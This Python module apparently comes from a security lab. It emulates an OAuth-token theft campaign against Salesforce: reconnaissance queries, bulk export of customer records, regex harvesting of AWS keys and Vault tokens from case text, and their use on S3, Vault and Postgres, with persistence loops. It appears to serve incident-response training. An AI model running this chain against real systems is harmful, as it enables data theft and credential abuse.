"""The attack `stolen-connected-app`: a support-chat app's OAuth tokens, on the published UNC6395 timeline.

describe, COUNT, users, limits, Bulk export of Case, Contact, Account and User with the jobs deleted, then
the keys read out of Case text: an AWS key used on S3, a Vault token used on KV and for database logins. After
that every credential is tried without pause until standard input closes, and then each once more.

Timeline: Cloudflare's account of August 2025, as far as public copies give it.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

from deployments.lab.scenarios.attacker import (
    AttackLog,
    Credential,
    Persistence,
    SalesforceThief,
    attempt,
    aws_client,
    postgres_login,
    vault_client,
)
from deployments.lab.scenarios.scenario import KNOWN_AT_THE_ALARM, Scenario, play

USER_AGENT = "Salesforce-Multi-Org-Fetcher/1.0"
RECON = (
    "SELECT COUNT() FROM Account",
    "SELECT COUNT() FROM Contact",
    "SELECT COUNT() FROM User",
    "SELECT COUNT() FROM Case",
    "SELECT Id, Username, Email, LastLoginDate FROM User WHERE IsActive = true "
    "ORDER BY LastLoginDate DESC NULLS LAST LIMIT 20",
    "SELECT Id, Name, OrganizationType, InstanceName FROM Organization",
)
EXPORTS = (
    "SELECT Id, CaseNumber, ContactId, Subject, Description, SuppliedName, SuppliedEmail, SuppliedPhone, "
    "Status, CreatedDate FROM Case",
    "SELECT Id, FirstName, LastName, Email, Phone, MobilePhone, Birthdate, MailingStreet, MailingCity, "
    "MailingState, MailingPostalCode, MailingCountry FROM Contact",
    "SELECT Id, Name, Phone, Industry, BillingStreet, BillingCity, BillingState, BillingPostalCode, "
    "BillingCountry FROM Account",
    "SELECT Id, Username, Email, FirstName, LastName, Title, Phone, LastLoginDate FROM User",
)
AWS_KEY = re.compile(r"\b(AKIA[A-Z0-9]{16})\b.{0,80}?\b([A-Za-z0-9/+]{40})\b", re.DOTALL)
VAULT_TOKEN = re.compile(r"\b((?:s|hvs)\.[A-Za-z0-9_-]{20,})")


class Attack:
    """State of the running attack: what was stolen so far and what still works."""

    def __init__(self, lab: Mapping[str, Any], log: AttackLog) -> None:
        self.lab = lab
        self.log = log
        self.thief = SalesforceThief(lab, USER_AGENT)
        tokens = json.loads(Path(lab["stolen"]["refresh_tokens_file"]).read_text(encoding="utf-8"))
        self.refresh_tokens: dict[str, str] = dict(tokens)  # username -> refresh token
        self.access_token = self._first_login()
        self.minted: list[str] = [self.access_token]
        self.aws: tuple[str, str] | None = None
        self.vault_token: str | None = None
        self.database_login: tuple[str, str] | None = None

    def _first_login(self) -> str:
        token = self.thief.refresh(self.refresh_tokens[self.lab["stolen"]["integration_username"]])
        if token is None:
            sys.exit(
                "The stolen refresh token of the integration user does not work: the lab is not as expected."
            )
        return token

    def exfiltrate(self) -> None:
        """Recon, bulk export, and the use of what the exported Case text gives away."""
        for path in ("/sobjects", "/sobjects/Case/describe"):
            self.log.add("oauth-access-token", path, self.thief.call("GET", path, self.access_token).ok)
        for soql in RECON:
            self.log.add("oauth-access-token", "query", self.thief.query(soql, self.access_token).ok)
        self.log.add("oauth-access-token", "/limits", self.thief.call("GET", "/limits", self.access_token).ok)
        for soql in EXPORTS:
            pages = self.thief.bulk_export(soql, self.access_token)
            self.log.add("oauth-access-token", "bulk export", bool(pages))
            if soql.endswith("FROM Case"):
                self._mine(pages)
        self._use_found_keys()

    def _mine(self, pages: Sequence[str]) -> None:
        for page in pages:
            for row in csv.DictReader(io.StringIO(page)):
                if found := AWS_KEY.search(row["Description"]):
                    self.aws = (found[1], found[2])
                if token := VAULT_TOKEN.search(row["Description"]):
                    self.vault_token = token[1]

    def _use_found_keys(self) -> None:
        for credential in self._aws() + self._vault():
            attempt(self.log, credential)
        if self.vault_token:
            lease = vault_client(self.lab, self.vault_token).secrets.database.generate_credentials(
                "support-readonly"
            )
            self.database_login = (lease["data"]["username"], lease["data"]["password"])
            for credential in self._database():
                attempt(self.log, credential)

    # --- every stolen credential, as something to try -------------------------------------------

    def _access_tokens(self) -> list[Credential]:
        def use(token: str) -> bool:
            return self.thief.query("SELECT Id, Email FROM Contact LIMIT 200", token).ok

        return [
            Credential("oauth-access-token", "query", lambda token=token: use(token))  # type: ignore[misc]
            for token in self.minted
        ]

    def _refresh(self, username: str) -> Credential:
        def use() -> bool:
            token = self.thief.refresh(self.refresh_tokens[username])
            if token is not None and len(self.minted) < 200:
                self.minted.append(token)
            return token is not None

        return Credential("oauth-refresh-token", "refresh", use)

    def _aws(self) -> list[Credential]:
        if self.aws is None:
            return []
        s3 = aws_client(self.lab, "s3", *self.aws)
        bucket = self.lab["aws"]["buckets"]["attachments"]

        def read() -> bool:
            listed = s3.list_objects_v2(Bucket=bucket).get("Contents", [])
            return bool(listed) and bool(s3.get_object(Bucket=bucket, Key=listed[0]["Key"])["Body"].read())

        return [Credential("aws-access-key", "s3 read", read)]

    def _vault(self) -> list[Credential]:
        if self.vault_token is None:
            return []
        vault = vault_client(self.lab, self.vault_token)

        def read() -> bool:
            listed = vault.secrets.kv.v2.list_secrets(path="integrations", mount_point="kv")
            path = f"integrations/{listed['data']['keys'][0]}"
            return bool(
                vault.secrets.kv.v2.read_secret_version(
                    path=path, mount_point="kv", raise_on_deleted_version=True
                )
            )

        return [Credential("vault-token", "kv read", read)]

    def _database(self) -> list[Credential]:
        if self.database_login is None:
            return []
        username, password = self.database_login
        return [Credential("database-lease", "login", lambda: postgres_login(self.lab, username, password))]

    def persistence(self) -> Persistence:
        """One loop for the integration user, one through all other grants, one for the found keys."""
        integration = self.lab["stolen"]["integration_username"]
        others = [self._refresh(name) for name in self.refresh_tokens if name != integration]
        return Persistence(
            self.log,
            [
                [*self._access_tokens(), self._refresh(integration)],
                others,
                self._aws() + self._vault() + self._database(),
            ],
        )

    def everything(self) -> Iterator[Credential]:
        yield from self._access_tokens()
        yield from (self._refresh(name) for name in self.refresh_tokens)
        yield from self._aws() + self._vault() + self._database()


def _secrets(lab: Mapping[str, Any]) -> list[str]:
    stolen = lab["stolen"]
    tokens = json.loads(Path(stolen["refresh_tokens_file"]).read_text(encoding="utf-8"))
    return [
        stolen["aws_secret_access_key"],
        stolen["vault_token"],
        stolen["consumer_secret"],
        *list(tokens.values())[:50],
    ]


SCENARIO = Scenario(
    name="stolen-connected-app",
    module="deployments.lab.scenarios.stolen_connected_app",
    leaked="OAuth tokens of the support-chat app were stolen from its vendor",
    suspects=lambda lab: list(lab["suspects"]),
    credentials=lambda lab: [f"oauth:{lab['stolen']['app']}:*"],
    secrets=_secrets,
    answers=KNOWN_AT_THE_ALARM,
)

if __name__ == "__main__":
    play(Attack)
